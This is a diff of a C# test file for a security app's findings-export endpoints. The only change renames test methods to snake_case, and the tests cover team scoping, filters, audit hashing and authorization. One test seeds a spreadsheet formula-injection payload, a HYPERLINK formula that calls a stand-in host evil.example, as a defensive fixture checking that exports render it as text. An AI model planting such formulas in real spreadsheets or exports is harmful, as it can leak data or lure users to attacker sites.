@@ -57,7 +57,7 @@ public sealed class ExportEndpointsFacts(K8PostureAppFactory app) : IClassFixtur
     private static int Column(List<string[]> csv, string name) => Array.IndexOf(csv[0], name);
 
     [Fact]
-    public async Task EveryExportPrintsDisplayNamesNeverARunTogetherEnumMemberName()
+    public async Task Every_export_prints_display_names_never_a_run_together_enum_member_name()
     {
         var (payments, _, _, _) = await SeedTwoTeamsWithFindingsAsync();
         using var pusher = app.CreateApiClient(await app.CreateApiKeyAsync("ingest"));
@@ -102,7 +102,7 @@ public sealed class ExportEndpointsFacts(K8PostureAppFactory app) : IClassFixtur
     }
 
     [Fact]
-    public async Task AnAppTeamMembersExportHoldsOnlyItsTeamsFindingsAndAnAuditorsHoldsAll()
+    public async Task An_app_team_members_export_holds_only_its_teams_findings_and_an_auditors_holds_all()
     {
         var (payments, paymentsName, _, ledgerName) = await SeedTwoTeamsWithFindingsAsync();
         var paymentsCount = await app.WithDbAsync(db => db.Findings.CountAsync(f => f.OwnerTeamId == payments));
@@ -121,7 +121,7 @@ public sealed class ExportEndpointsFacts(K8PostureAppFactory app) : IClassFixtur
     }
 
     [Fact]
-    public async Task AnAppTeamMembersXlsxExportIsScopedToo()
+    public async Task An_app_team_members_xlsx_export_is_scoped_too()
     {
         var (payments, paymentsName, _, _) = await SeedTwoTeamsWithFindingsAsync();
         var paymentsCount = await app.WithDbAsync(db => db.Findings.CountAsync(f => f.OwnerTeamId == payments));
@@ -141,7 +141,7 @@ public sealed class ExportEndpointsFacts(K8PostureAppFactory app) : IClassFixtur
     }
 
     [Fact]
-    public async Task TheFindingsPageFiltersApplyToTheExport()
+    public async Task The_findings_page_filters_apply_to_the_export()
     {
         var (payments, _, _, _) = await SeedTwoTeamsWithFindingsAsync();
         var high = await app.WithDbAsync(db => db.Findings.CountAsync(f => f.OwnerTeamId == payments && f.Severity == FindingSeverity.Medium && f.Status == FindingStatus.Open));
@@ -158,7 +158,7 @@ public sealed class ExportEndpointsFacts(K8PostureAppFactory app) : IClassFixtur
     [Theory]
     [InlineData("findings.csv")]
     [InlineData("findings.xlsx")]
-    public async Task EveryExportIsAuditedWithTheSha256OfTheBytesDownloaded(string file)
+    public async Task Every_export_is_audited_with_the_sha_256_of_the_bytes_downloaded(string file)
     {
         var (payments, paymentsName, _, _) = await SeedTwoTeamsWithFindingsAsync();
         var marker = Guid.NewGuid().ToString("N")[..10];
@@ -182,7 +182,7 @@ public sealed class ExportEndpointsFacts(K8PostureAppFactory app) : IClassFixtur
     }
 
     [Fact]
-    public async Task TheAuditedRowCountIsTheNumberOfRowsSent()
+    public async Task The_audited_row_count_is_the_number_of_rows_sent()
     {
         var (payments, _, _, _) = await SeedTwoTeamsWithFindingsAsync();
         var expected = await app.WithDbAsync(db => db.Findings.CountAsync(f => f.OwnerTeamId == payments));
@@ -196,7 +196,7 @@ public sealed class ExportEndpointsFacts(K8PostureAppFactory app) : IClassFixtur
     }
 
     [Fact]
-    public async Task AFormulaInStoredDataLeavesTheExportAsText()
+    public async Task A_formula_in_stored_data_leaves_the_export_as_text()
     {
         var marker = "inj" + Guid.NewGuid().ToString("N")[..8];
         var title = "=HYPERLINK(\"http://evil.example/?" + marker + "\",\"click\")";
@@ -235,7 +235,7 @@ public sealed class ExportEndpointsFacts(K8PostureAppFactory app) : IClassFixtur
     }
 
     [Fact]
-    public async Task ABadFilterIsAProblemNamingItAndNothingIsAudited()
+    public async Task A_bad_filter_is_a_problem_naming_it_and_nothing_is_audited()
     {
         using var analyst = await app.SignedInClientAsync("Security.Analyst");
         var before = await app.ScalarAsync("SELECT COUNT(*) FROM AuditEvents WHERE Action = 'export.download'");
@@ -251,14 +251,14 @@ public sealed class ExportEndpointsFacts(K8PostureAppFactory app) : IClassFixtur
     [Theory]
     [InlineData("findings.pdf", HttpStatusCode.BadRequest)]
     [InlineData("nothing.csv", HttpStatusCode.NotFound)]
-    public async Task AnUnknownFormatOrSourceIsAProblem(string file, HttpStatusCode expected)
+    public async Task An_unknown_format_or_source_is_a_problem(string file, HttpStatusCode expected)
     {
         using var analyst = await app.SignedInClientAsync("Security.Analyst");
         Assert.Equal(expected, (await analyst.GetAsync("/api/v1/exports/" + file)).StatusCode);
     }
 
     [Fact]
-    public async Task OnlyAuditReadersExportTheAuditLog()
+    public async Task Only_audit_readers_export_the_audit_log()
     {
         var team = await app.SeedTeamAsync("AuditLess-" + Guid.NewGuid().ToString("N")[..6]);
         using var member = await app.SignedInClientAsync("AppTeam.Member", team);
@@ -276,7 +276,7 @@ public sealed class ExportEndpointsFacts(K8PostureAppFactory app) : IClassFixtur
     }
 
     [Fact]
-    public async Task AnonymousCallersGet401()
+    public async Task Anonymous_callers_get_401()
     {
         using var anonymous = app.CreateApiClient();
         Assert.Equal(HttpStatusCode.Unauthorized, (await anonymous.GetAsync("/api/v1/exports/findings.csv")).StatusCode);
